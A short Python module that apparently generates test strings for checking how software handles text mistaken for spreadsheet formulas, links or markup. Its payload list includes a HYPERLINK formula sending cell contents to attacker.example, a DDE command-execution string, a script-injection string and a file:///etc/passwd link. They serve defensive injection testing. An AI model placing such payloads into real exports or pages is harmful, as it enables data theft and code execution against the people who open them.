"""Texts that programs might take for formulas, links or markup."""

from __future__ import annotations

import random

STARTS = ["=", "+", "-", "@", "\t", "\r", "\n", "|", "%", "＝", "＋", "－", "＠", " =", "\u00a0="]
_BODIES = [
    'HYPERLINK("http://attacker.example/"&A1,"Click")',
    "cmd|' /C calc'!A0",
    "1+1",
    "SUM(A1:A9)",
    "IMPORTXML(CONCAT(A1),B2)",
    "http://attacker.example",
    "{1,2}",
    "<r><t>x</t></r>",
    '"><script>alert(1)</script>',
    "_x0041_",
    "#panic()",
    "internal:Sheet2!A1",
    "\x00\x08",
    "\ud83d",
]


def hostile_texts(count: int, *, seed: int = 5) -> list[str]:
    """Return so many different texts."""
    chance = random.Random(seed)
    return [f"{chance.choice(STARTS)}{chance.choice(_BODIES)} {at}" for at in range(count)] + [
        "<r><t>formatted</t></r>",
        "http://attacker.example",
        "mailto:x@attacker.example",
        "file:///etc/passwd",
    ]
